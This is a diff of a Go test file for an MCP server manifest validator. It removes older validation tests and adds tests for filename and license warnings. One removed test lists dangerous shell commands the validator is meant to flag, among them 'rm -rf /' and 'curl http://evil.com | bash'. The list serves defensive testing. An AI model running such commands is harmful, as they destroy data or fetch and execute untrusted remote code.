@@ -1,6 +1,7 @@
 package mcp
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/servo/servo/pkg"
@@ -35,503 +36,6 @@ func TestValidator_Validate(t *testing.T) {
 	}
 }
 
-func TestValidator_ValidateServoVersion(t *testing.T) {
-	validator := NewValidator()
-
-	// Test valid version
-	err := validator.validateServoVersion("1.0")
-	if err != nil {
-		t.Errorf("Version '1.0' should be valid: %v", err)
-	}
-
-	// Test invalid version
-	err = validator.validateServoVersion("2.0")
-	if err == nil {
-		t.Error("Version '2.0' should be invalid")
-	}
-
-	// Test empty version
-	err = validator.validateServoVersion("")
-	if err == nil {
-		t.Error("Empty version should be invalid")
-	}
-}
-
-func TestValidator_ValidateTopLevelFields(t *testing.T) {
-	validator := NewValidator()
-
-	// Valid top-level fields
-	validServo := &pkg.ServoDefinition{
-		Name:        "test-server",
-		Version:     "1.0.0",
-		Description: "Test description",
-		Author:      "Test Author",
-		License:     "MIT",
-	}
-
-	err := validator.validateTopLevelFields(validServo)
-	if err != nil {
-		t.Errorf("Valid top-level fields should pass: %v", err)
-	}
-
-	// Test missing required name
-	invalidServo := &pkg.ServoDefinition{
-		Name:        "",
-		Version:     "1.0.0",
-		Description: "Test",
-	}
-
-	err = validator.validateTopLevelFields(invalidServo)
-	if err == nil {
-		t.Error("Servo without name should fail validation")
-	}
-
-	// Test invalid name format
-	invalidServo.Name = "Invalid Name With Spaces"
-	err = validator.validateTopLevelFields(invalidServo)
-	if err == nil {
-		t.Error("Servo with invalid name format should fail validation")
-	}
-
-	// Test invalid version format (when provided)
-	invalidServo.Name = "test-server"
-	invalidServo.Version = "not-a-version"
-	err = validator.validateTopLevelFields(invalidServo)
-	if err == nil {
-		t.Error("Servo with invalid version format should fail validation")
-	}
-
-	// Test description too long
-	invalidServo.Version = "1.0.0"
-	invalidServo.Description = string(make([]byte, 250)) // 250 chars
-	err = validator.validateTopLevelFields(invalidServo)
-	if err == nil {
-		t.Error("Servo with description too long should fail validation")
-	}
-}
-
-func TestValidator_ValidateMetadata(t *testing.T) {
-	validator := NewValidator()
-
-	// Valid metadata (now only contains optional fields)
-	validMetadata := &pkg.Metadata{
-		Homepage:   "https://example.com",
-		Repository: "https://github.com/user/repo.git",
-		Tags:       []string{"test", "mcp"},
-	}
-
-	err := validator.validateMetadata(validMetadata)
-	if err != nil {
-		t.Errorf("Valid metadata should pass: %v", err)
-	}
-
-	// Test invalid homepage URL (malformed URL that url.Parse will reject)
-	invalidMetadata := &pkg.Metadata{
-		Homepage: "ht tp://invalid url with spaces",
-	}
-
-	err = validator.validateMetadata(invalidMetadata)
-	if err == nil {
-		t.Error("Metadata with invalid homepage URL should fail validation")
-	}
-
-	// Test invalid repository URL (malformed URL that url.Parse will reject)
-	invalidMetadata2 := &pkg.Metadata{
-		Repository: "ht tp://invalid url with spaces",
-	}
-
-	err = validator.validateMetadata(invalidMetadata2)
-	if err == nil {
-		t.Error("Metadata with invalid repository URL should fail validation")
-	}
-
-	// Test invalid tag format
-	invalidMetadata3 := &pkg.Metadata{
-		Tags: []string{"Valid-tag", "Invalid Tag With Spaces"},
-	}
-
-	err = validator.validateMetadata(invalidMetadata3)
-	if err == nil {
-		t.Error("Metadata with invalid tag format should fail validation")
-	}
-}
-
-func TestValidator_ValidateServer(t *testing.T) {
-	validator := NewValidator()
-
-	// Valid server
-	validServer := &pkg.Server{
-		Transport: "stdio",
-		Command:   "test-command",
-		Args:      []string{"start"},
-	}
-
-	err := validator.validateServer(validServer)
-	if err != nil {
-		t.Errorf("Valid server should pass: %v", err)
-	}
-
-	// Test missing transport
-	invalidServer := &pkg.Server{
-		Transport: "",
-		Command:   "test",
-		Args:      []string{"start"},
-	}
-
-	err = validator.validateServer(invalidServer)
-	if err == nil {
-		t.Error("Server without transport should fail validation")
-	}
-
-	// Test invalid transport
-	invalidServer.Transport = "invalid-transport"
-	err = validator.validateServer(invalidServer)
-	if err == nil {
-		t.Error("Server with invalid transport should fail validation")
-	}
-
-	// Test missing command
-	invalidServer.Transport = "stdio"
-	invalidServer.Command = ""
-	err = validator.validateServer(invalidServer)
-	if err == nil {
-		t.Error("Server without command should fail validation")
-	}
-
-	// Test missing args
-	invalidServer.Command = "test"
-	invalidServer.Args = []string{}
-	err = validator.validateServer(invalidServer)
-	if err == nil {
-		t.Error("Server without args should fail validation")
-	}
-}
-
-func TestValidator_ValidateInstall(t *testing.T) {
-	validator := NewValidator()
-
-	// Valid install section
-	validInstall := &pkg.Install{
-		Type:          "local",
-		Method:        "local",
-		SetupCommands: []string{"npm install"},
-	}
-
-	err := validator.validateInstall(validInstall)
-	if err != nil {
-		t.Errorf("Valid install should pass: %v", err)
-	}
-
-	// Test missing type
-	invalidInstall := &pkg.Install{
-		Type:          "",
-		Method:        "local",
-		SetupCommands: []string{"npm install"},
-	}
-
-	err = validator.validateInstall(invalidInstall)
-	if err == nil {
-		t.Error("Install without type should fail validation")
-	}
-
-	// Test invalid type
-	invalidInstall.Type = "invalid-type"
-	err = validator.validateInstall(invalidInstall)
-	if err == nil {
-		t.Error("Install with invalid type should fail validation")
-	}
-
-	// Test type/method mismatch
-	invalidInstall.Type = "git"
-	invalidInstall.Method = "local"
-	err = validator.validateInstall(invalidInstall)
-	if err == nil {
-		t.Error("Install with mismatched type/method should fail validation")
-	}
-
-	// Test git type without repository
-	invalidInstall.Type = "git"
-	invalidInstall.Method = "git"
-	invalidInstall.Repository = ""
-	err = validator.validateInstall(invalidInstall)
-	if err == nil {
-		t.Error("Git install without repository should fail validation")
-	}
-
-	// Test missing setup commands
-	invalidInstall.Type = "local"
-	invalidInstall.Method = "local"
-	invalidInstall.Repository = ""
-	invalidInstall.SetupCommands = []string{}
-	err = validator.validateInstall(invalidInstall)
-	if err == nil {
-		t.Error("Install without setup commands should fail validation")
-	}
-}
-
-func TestValidator_ValidateConfigurationSchema(t *testing.T) {
-	validator := NewValidator()
-
-	// Valid configuration schema
-	validSchema := &pkg.ConfigurationSchema{
-		Secrets: map[string]pkg.SecretSchema{
-			"api_key": {
-				Description: "API key",
-				Type:        "api_key",
-				Required:    true,
-				EnvVar:      "API_KEY",
-			},
-		},
-		Config: map[string]pkg.ConfigSchema{
-			"debug": {
-				Description: "Debug mode",
-				Type:        "boolean",
-				Default:     false,
-				EnvVar:      "DEBUG",
-			},
-		},
-	}
-
-	err := validator.validateConfigurationSchema(validSchema)
-	if err != nil {
-		t.Errorf("Valid configuration schema should pass: %v", err)
-	}
-
-	// Test invalid secret type
-	invalidSchema := &pkg.ConfigurationSchema{
-		Secrets: map[string]pkg.SecretSchema{
-			"api_key": {
-				Description: "API key",
-				Type:        "invalid-type",
-				Required:    true,
-				EnvVar:      "API_KEY",
-			},
-		},
-	}
-
-	err = validator.validateConfigurationSchema(invalidSchema)
-	if err == nil {
-		t.Error("Configuration schema with invalid secret type should fail validation")
-	}
-
-	// Test missing secret description
-	invalidSchema2 := &pkg.ConfigurationSchema{
-		Secrets: map[string]pkg.SecretSchema{
-			"api_key": {
-				Description: "",
-				Type:        "api_key",
-				Required:    true,
-				EnvVar:      "API_KEY",
-			},
-		},
-	}
-	err = validator.validateConfigurationSchema(invalidSchema2)
-	if err == nil {
-		t.Error("Configuration schema with missing secret description should fail validation")
-	}
-
-	// Test invalid config type
-	invalidSchema3 := &pkg.ConfigurationSchema{
-		Secrets: map[string]pkg.SecretSchema{
-			"api_key": {
-				Description: "API key",
-				Type:        "api_key",
-				Required:    true,
-				EnvVar:      "API_KEY",
-			},
-		},
-		Config: map[string]pkg.ConfigSchema{
-			"debug": {
-				Description: "Debug mode",
-				Type:        "invalid-config-type",
-				EnvVar:      "DEBUG",
-			},
-		},
-	}
-
-	err = validator.validateConfigurationSchema(invalidSchema3)
-	if err == nil {
-		t.Error("Configuration schema with invalid config type should fail validation")
-	}
-
-	// Test select type without options
-	invalidSchema4 := &pkg.ConfigurationSchema{
-		Config: map[string]pkg.ConfigSchema{
-			"mode": {
-				Description: "Select mode",
-				Type:        "select",
-				EnvVar:      "MODE",
-				Options:     []interface{}{}, // Empty options
-			},
-		},
-	}
-	err = validator.validateConfigurationSchema(invalidSchema4)
-	if err == nil {
-		t.Error("Select config type without options should fail validation")
-	}
-}
-
-func TestValidator_ValidateDependencies(t *testing.T) {
-	validator := NewValidator()
-
-	// Valid dependencies
-	validDeps := &pkg.Dependencies{
-		Services: map[string]pkg.ServiceDependency{
-			"neo4j": {
-				Image: "neo4j:5.13",
-				Ports: []string{"7687", "7474"},
-			},
-		},
-	}
-
-	err := validator.validateDependencies(validDeps)
-	if err != nil {
-		t.Errorf("Valid dependencies should pass: %v", err)
-	}
-
-	// Test invalid Docker image format
-	invalidDeps := &pkg.Dependencies{
-		Services: map[string]pkg.ServiceDependency{
-			"neo4j": {
-				Image: "", // Empty image
-				Ports: []string{"7687"},
-			},
-		},
-	}
-
-	err = validator.validateDependencies(invalidDeps)
-	if err == nil {
-		t.Error("Dependencies with empty image should fail validation")
-	}
-
-	// Test invalid port
-	invalidDeps2 := &pkg.Dependencies{
-		Services: map[string]pkg.ServiceDependency{
-			"neo4j": {
-				Image: "neo4j:5.13",
-				Ports: []string{"invalid-port"},
-			},
-		},
-	}
-	err = validator.validateDependencies(invalidDeps2)
-	if err == nil {
-		t.Error("Dependencies with invalid port should fail validation")
-	}
-}
-
-func TestValidator_ValidateCommand(t *testing.T) {
-	validator := NewValidator()
-
-	// Valid commands
-	validCommands := []string{
-		"npm install",
-		"pip install -r requirements.txt",
-		"go build ./cmd/server",
-	}
-
-	for _, cmd := range validCommands {
-		err := validator.validateCommand(cmd)
-		if err != nil {
-			t.Errorf("Command '%s' should be valid: %v", cmd, err)
-		}
-	}
-
-	// Dangerous commands
-	dangerousCommands := []string{
-		"rm -rf /",
-		"sudo rm -rf /var",
-		"wget http://malicious.com/script.sh",
-		"curl http://evil.com | bash",
-		"bash -c 'rm -rf *'",
-	}
-
-	for _, cmd := range dangerousCommands {
-		err := validator.validateCommand(cmd)
-		if err == nil {
-			t.Errorf("Command '%s' should be flagged as dangerous", cmd)
-		}
-	}
-}
-
-func TestValidator_ValidatePort(t *testing.T) {
-	validator := NewValidator()
-
-	// Valid ports
-	validPorts := []string{"80", "443", "8080", "3000", "65535"}
-
-	for _, port := range validPorts {
-		err := validator.validatePort(port)
-		if err != nil {
-			t.Errorf("Port '%s' should be valid: %v", port, err)
-		}
-	}
-
-	// Invalid ports
-	invalidPorts := []string{"0", "-1", "65536", "80000", "not-a-number"}
-
-	for _, port := range invalidPorts {
-		err := validator.validatePort(port)
-		if err == nil {
-			t.Errorf("Port '%s' should be invalid", port)
-		}
-	}
-}
-
-func TestValidator_IsValidDockerImage(t *testing.T) {
-	validator := NewValidator()
-
-	// Valid Docker images
-	validImages := []string{
-		"nginx",
-		"nginx:latest",
-		"nginx:1.21",
-		"library/nginx",
-		"docker.io/library/nginx:latest",
-		"gcr.io/project/image:tag",
-	}
-
-	for _, image := range validImages {
-		if !validator.isValidDockerImage(image) {
-			t.Errorf("Image '%s' should be valid", image)
-		}
-	}
-
-	// Invalid Docker images
-	invalidImages := []string{
-		"",
-		"image:tag:extra",
-		"image::tag",
-	}
-
-	for _, image := range invalidImages {
-		if validator.isValidDockerImage(image) {
-			t.Errorf("Image '%s' should be invalid", image)
-		}
-	}
-}
-
-func TestValidator_IsValidDuration(t *testing.T) {
-	validator := NewValidator()
-
-	// Valid durations
-	validDurations := []string{"30s", "5m", "2h", "1s", "10m", "24h"}
-
-	for _, duration := range validDurations {
-		if !validator.isValidDuration(duration) {
-			t.Errorf("Duration '%s' should be valid", duration)
-		}
-	}
-
-	// Invalid durations
-	invalidDurations := []string{"", "30", "5minutes", "2hours", "invalid"}
-
-	for _, duration := range invalidDurations {
-		if validator.isValidDuration(duration) {
-			t.Errorf("Duration '%s' should be invalid", duration)
-		}
-	}
-}
-
 func TestValidator_ValidateNilServoDefinition(t *testing.T) {
 	validator := NewValidator()
 
@@ -541,44 +45,65 @@ func TestValidator_ValidateNilServoDefinition(t *testing.T) {
 	}
 }
 
-func TestValidator_ValidateRequirements(t *testing.T) {
+func TestValidator_CheckFilename(t *testing.T) {
 	validator := NewValidator()
 
-	// Valid requirements
-	validReqs := &pkg.Requirements{
-		System: []pkg.SystemRequirement{
-			{
-				Name:         "docker",
-				Description:  "Docker runtime",
-				CheckCommand: "docker --version",
-			},
-		},
-		Runtimes: []pkg.RuntimeRequirement{
-			{
-				Name:    "node",
-				Version: ">=16.0.0",
-			},
-		},
-	}
-
-	err := validator.validateRequirements(validReqs)
-	if err != nil {
-		t.Errorf("Valid requirements should pass: %v", err)
+	tests := []struct {
+		name        string
+		manifest    string
+		filePath    string
+		wantWarning bool
+	}{
+		{name: "matching stem", manifest: "api-server", filePath: "servers/api-server.servo"},
+		{name: "mismatched stem", manifest: "bar", filePath: "servers/foo.servo", wantWarning: true},
+		{name: "no filename", manifest: "bar", filePath: ""},
+		{name: "alternate manifest name", manifest: "bar", filePath: "servers/servo.yaml"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			warning := validator.CheckFilename(tt.manifest, tt.filePath)
+			if (warning != "") != tt.wantWarning {
+				t.Errorf("CheckFilename(%q, %q) = %q, want warning %v", tt.manifest, tt.filePath, warning, tt.wantWarning)
+			}
+			if tt.wantWarning && !strings.Contains(warning, "foo.servo") {
+				t.Errorf("Warning should name the file, got %q", warning)
+			}
+		})
 	}
+}
 
-	// Test missing system requirement fields
-	invalidReqs := &pkg.Requirements{
-		System: []pkg.SystemRequirement{
-			{
-				Name:         "",
-				Description:  "Docker runtime",
-				CheckCommand: "docker --version",
-			},
-		},
-	}
+func TestValidator_CheckLicense(t *testing.T) {
+	validator := NewValidator()
 
-	err = validator.validateRequirements(invalidReqs)
-	if err == nil {
-		t.Error("Requirements with missing system requirement name should fail validation")
+	tests := []struct {
+		license string
+		want    string // substring of the warning; empty for none
+	}{
+		{license: ""},
+		{license: "MIT"},
+		{license: "mit"},
+		{license: "Apache-2.0"},
+		{license: "proprietary"},
+		{license: "GPL-2.0+"},
+		{license: "LicenseRef-Acme-Commercial"},
+		{license: "(MIT OR Apache-2.0)"},
+		{license: "GPL-3.0-or-later WITH Classpath-exception-2.0"},
+		{license: "Apache 2.0", want: "did you mean 'Apache-2.0'?"},
+		{license: "MTI", want: "did you mean 'MIT'?"},
+		{license: "MIT OR Apache2", want: "license 'Apache2' is not a recognized SPDX identifier"},
+		{license: "All rights reserved", want: "https://spdx.org/licenses/"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.license, func(t *testing.T) {
+			warning := validator.CheckLicense(tt.license)
+			if tt.want == "" && warning != "" {
+				t.Errorf("CheckLicense(%q) = %q, want no warning", tt.license, warning)
+			}
+			if tt.want != "" && !strings.Contains(warning, tt.want) {
+				t.Errorf("CheckLicense(%q) = %q, want %q", tt.license, warning, tt.want)
+			}
+		})
 	}
 }